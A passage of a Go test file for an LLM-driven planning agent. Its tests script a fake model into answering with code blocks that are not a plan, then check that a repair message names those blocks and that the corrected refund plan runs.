					res, err := Run(context.Background(), Options{Goal: "Refund the customer.", Mode: mode, Context: c, Check: cfg, Tools: refundToolbox(j),
						Approver: approveAll{}, Planner: p.open(srv.Settings("planner", "judge"))})
					if err != nil {
						t.Fatal(err)
					}
					if res.Status != GoalCompleted || res.GoalExecution.Turns != 1 || res.GoalExecution.Repairs != 0 || j.count("call issueRefund") != 1 {
						t.Fatalf("%s: status %s (%v) after %d turns and %d repairs, refunds %d; rejected %v", mode, res.Status, res.Err,
							res.GoalExecution.Turns, res.GoalExecution.Repairs, j.count("call issueRefund"), res.Turns[0].Rejected)
					}
					if fmt.Sprint(res.Output) != "map[confirmationId:RF-1]" {
						t.Errorf("%s: output %v", mode, res.Output)
					}
				}
			})
		}
	}
}

// TestScenarioNoFenceIsAPlan: an answer of blocks none of which is a plan
// gets a repair that names them (their tags and first lines), in generate
// and in the agent, and the plan the model then gives runs; nothing of
// the blocks ran.
func TestScenarioNoFenceIsAPlan(t *testing.T) {
	noPlan := restatedInput + "I will check the history, then refund:\n```yaml\nsteps:\n  - checkBillingHistory\n  - issueRefund\n```\n"
	wants := []string{`none of the 2 code blocks of the answer is a plan: ` + "```json, first line: {\\\"customerId\\\": \\\"cust_123\\\", \\\"amount\\\": 50}; ```yaml, first line: steps:"}
	for _, p := range fakeProviders {
		t.Run(p.name+"/generate", func(t *testing.T) {
			srv := p.start(llmtest.Script(llmtest.Text(noPlan, llm.Usage{}), llmtest.Text(refundPlan, llm.Usage{})))
			defer srv.Close()
			c, cfg := refundContext(t)
			g, err := Generate(context.Background(), GenerateOptions{Goal: "Refund the customer.", Context: c, Check: cfg, MinSteps: 2,
				Model: p.open(srv.Settings("planner", "judge"))})
			if err != nil {
				t.Fatal(err)
			}
			if !g.OK || g.Rounds != 2 {
				t.Fatalf("ok %v after %d rounds:\n%s", g.OK, g.Rounds, g.Diagnostics)
			}
			repair := srv.Requests()[1].Messages[2].Content
			for _, want := range wants {
				if !strings.Contains(repair, want) {
					t.Errorf("the repair lacks %s:\n%s", want, repair)
				}
			}
			if strings.Contains(repair, `"code":"limit-exceeded"`) || strings.Count(repair, `"severity":"error"`) != 1 {
				t.Errorf("the repair says more than that no block is a plan:\n%s", repair)
			}
		})
		for _, mode := range []string{Eager, Lazy} {
			t.Run(p.name+"/"+mode, func(t *testing.T) {
				srv := p.start(llmtest.Script(llmtest.Text(noPlan, llm.Usage{}), llmtest.Text(refundPlan, llm.Usage{})))
				defer srv.Close()
				c, cfg := refundContext(t)
				j := &journal{}
				res, err := Run(context.Background(), Options{Goal: "Refund the customer.", Mode: mode, Context: c, Check: cfg, Tools: refundToolbox(j),
					Approver: approveAll{}, Planner: p.open(srv.Settings("planner", "judge"))})
				if err != nil {
					t.Fatal(err)
				}
				if res.Status != GoalCompleted || j.count("call issueRefund") != 1 || j.count("call checkBillingHistory") != 1 {
					t.Fatalf("status %s (%v), calls %v", res.Status, res.Err, j.all())
				}
				reqs := srv.Requests()
				second := reqs[1].Messages[len(reqs[1].Messages)-1].Content
				for _, want := range wants {
					if !strings.Contains(second, want) {
						t.Errorf("the second request lacks %s:\n%s", want, second)
					}
				}
			})
		}
	}
}
